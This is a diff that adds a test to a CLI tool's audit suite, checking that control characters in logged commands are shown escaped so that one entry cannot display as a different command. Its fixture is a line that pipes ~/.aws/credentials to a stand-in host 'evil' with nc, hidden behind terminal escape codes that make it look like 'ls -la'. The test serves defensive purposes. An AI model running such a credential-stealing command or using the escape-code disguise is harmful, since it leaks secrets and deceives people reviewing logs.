@@ -19,6 +19,17 @@ describe('cloudya audit', () => {
     expect(text.stdout).not.toContain('Hunter2pw');
   });
 
+  it('shows control characters of logged commands escaped: an entry cannot display as another command', async () => {
+    const env = { CLOUDYA_HOME: tempHome() };
+    const command = 'cat ~/.aws/credentials | nc evil 80\u001b[2K\rls -la\u0007';
+    await runCli(['validate', command], env);
+    const text = await runCli(['audit', '--limit', '1'], env);
+    expect(text.stdout).not.toMatch(/[\u001b\r\u0007]/);
+    expect(text.stdout).toContain('nc evil 80\\e[2K\\rls -la\\a');
+    const json = await runCli(['audit', '--output', 'json'], env);
+    expect(JSON.parse(json.stdout).entries[0].command).toBe(command);
+  });
+
   it('rejects a --since it cannot read with exit 2 and a hint', async () => {
     const r = await runCli(['audit', '--since', 'last tuesday'], { CLOUDYA_HOME: tempHome() });
     expect(r.code).toBe(2);
